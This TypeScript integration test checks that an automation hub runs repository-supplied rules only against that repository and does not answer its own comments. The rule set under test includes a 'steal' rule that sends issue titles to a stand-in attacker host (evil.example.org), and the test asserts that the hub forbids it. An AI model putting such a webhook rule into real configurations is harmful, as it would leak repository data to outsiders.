import assert from 'node:assert/strict';
import { createHmac, randomUUID } from 'node:crypto';
import { test, type TestContext } from 'node:test';
import type { FakeForge } from '../fake-forge/contract.ts';
import { startFakeForge } from '../fake-forge/start.ts';
import { addSubject, getRepository, TOKENS } from '../fake-forge/state.ts';
import { type HubUnderTest, startTestHub } from '../running-hub.ts';
import { waitUntil } from '../wait-until.ts';

const SECRET = 'a-webhook-secret';

/** A rule of the repository's own, one that asks for too much, and one of a hub that answers every comment. */
const OWN_RULES = `
rules:
  - name: thanks
    on: issue.opened
    mode: sequential
    do:
      - comment.post: { body: "Thank you for number {{ number }}." }
      - label.add: { labels: [new] }
  - name: steal
    on: issue.opened
    do: { webhook.send: { url: "https://evil.example.org/{{ title }}" } }
`;

async function startPair(t: TestContext) {
  const forge = await startFakeForge(t, { kind: 'gitea' });
  const repository = forge.state.repositories[0];
  assert.ok(repository !== undefined);
  repository.files.set(`${repository.defaultBranch}:.fettle.yaml`, Buffer.from(OWN_RULES));
  const fullName = `${repository.owner}/${repository.name}`;
  const hub = await startTestHub({
    config: `
forges: { home: { kind: gitea, url: "${forge.url}", token: ${TOKENS.fettle}, secret: ${SECRET} } }
network: { allowPrivate: [127.0.0.1/32] }
repositoryRules:
  - { repos: "${fullName}", actions: [comment.post, label.add, webhook.send], reach: [] }
rules:
  - { name: answer, on: comment.created, do: { comment.post: { body: "I heard." } } }
`,
  });
  t.after(() => hub.stop());
  return { forge, hub, repository };
}

async function deliver(hub: HubUnderTest, event: string, payload: object): Promise<void> {
  const body = Buffer.from(JSON.stringify(payload));
  const answer = await hub.post('/webhook/home', body, {
    'content-type': 'application/json',
    'x-gitea-event': event,
    'x-gitea-event-type': event,
    'x-gitea-delivery': randomUUID(),
    'x-gitea-signature': createHmac('sha256', SECRET).update(body).digest('hex'),
  });
  assert.equal(answer.status, 200, answer.text);
}

async function settled(hub: HubUnderTest): Promise<void> {
  await waitUntil(async () => {
    const { total, exact } = await hub.books();
    return exact && total.received > 0 && total.pending === 0;
  }, 'every run is over');
}

test('a repository brings rules along: they act on itself, in order, and reach nothing else', async (t) => {
  const { forge, hub, repository } = await startPair(t);
  const issue = addSubject(forge.state, repository, 'issue', getAuthor(forge));
  const shown = toShown(forge.url, repository);
  await deliver(hub, 'issues', { action: 'opened', ...toIssue(issue, shown) });
  await settled(hub);
  const stored = getRepository(forge.state, repository.owner, repository.name).subjects.find(
    ({ id }) => id === issue.id,
  );
  assert.match(stored?.comments[0]?.body ?? '', /Thank you for number \d+\./);
  assert.deepEqual(stored?.labels, ['new']);
  const { runs } = await hub.get<{
    runs: { rule: string; state: string; code: string | null; ruleSource: string | null }[];
  }>('/api/v1/runs');
  const lines = runs.map(({ rule, state, code, ruleSource }) => [rule, state, code, ruleSource].join(' '));
  assert.deepEqual(
    lines.toSorted((one, other) => one.localeCompare(other)),
    [
      `steal dead action_forbidden ${shown.full_name}`,
      `thanks succeeded  ${shown.full_name}`,
      `thanks succeeded  ${shown.full_name}`,
    ],
  );
});

test('a comment of our own triggers nothing, whoever seems to have written it', async (t) => {
  const { forge, hub, repository } = await startPair(t);
  const issue = addSubject(forge.state, repository, 'issue', getAuthor(forge));
  const shown = toShown(forge.url, repository);
  const say = (body: string, login: string) =>
    deliver(hub, 'issue_comment', {
      action: 'created',
      ...toIssue(issue, shown),
      comment: {
        id: Date.now(),
        body,
        user: { id: 7, login },
        created_at: new Date().toISOString(),
        html_url: `${shown.html_url}/issues/1#c`,
      },
      sender: { id: 7, login },
    });
  await say('What do you think?', 'ada');
  await settled(hub);
  const answers = () =>
    getRepository(forge.state, repository.owner, repository.name).subjects.find(({ id }) => id === issue.id)
      ?.comments ?? [];
  assert.equal(answers().length, 1);
  await say(answers()[0]?.body ?? '', 'a-bot-nobody-configured');
  await settled(hub);
  assert.equal(answers().length, 1, 'the mark ends the loop');
});

function toShown(
  url: string,
  { id, owner, name, defaultBranch }: { id: number; owner: string; name: string; defaultBranch: string },
) {
  return {
    id,
    name,
    full_name: `${owner}/${name}`,
    owner: { id: 3, login: owner },
    html_url: `${url}/${owner}/${name}`,
    clone_url: `${url}/${owner}/${name}.git`,
    private: false,
    default_branch: defaultBranch,
  };
}

function toIssue(
  { id, number, title }: { id: number; number: number; title: string },
  repository: ReturnType<typeof toShown>,
) {
  const at = new Date().toISOString();
  const ada = { id: 7, login: 'ada' };
  return {
    number,
    issue: {
      id,
      number,
      user: ada,
      title,
      body: '',
      labels: [],
      assignees: null,
      html_url: `${repository.html_url}/issues/${number}`,
      state: 'open',
      created_at: at,
      updated_at: at,
    },
    repository,
    sender: ada,
  };
}

function getAuthor({ state }: FakeForge) {
  const ada = state.accounts.find(({ login }) => login === 'ada');
  assert.ok(ada !== undefined);
  return ada;
}
